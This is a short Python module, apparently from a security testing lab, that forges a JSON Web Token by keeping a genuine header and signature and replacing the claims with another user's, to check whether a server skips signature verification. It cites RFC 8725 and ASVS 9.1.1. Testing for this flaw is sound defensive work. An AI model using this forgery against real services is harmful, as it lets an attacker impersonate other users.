"""Put someone else's name into your own token.

Exploits a server that reads the claims, but does not check the signature.
Source: RFC 8725, section 3.3 Validate All Cryptographic Operations,
https://www.rfc-editor.org/rfc/rfc8725#section-3.3
ASVS: 9.1.1
"""

from attacks.lab.attack import attack
from attacks.lab.forge import encode
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Change the middle part, and keep the other two."""
    victim = target.enrol()
    header, _, signature = target.genuine_token.split(".")
    claims = encode(target.claims_about(victim))
    return judge({"another name": target.read(f"{header}.{claims}.{signature}")})
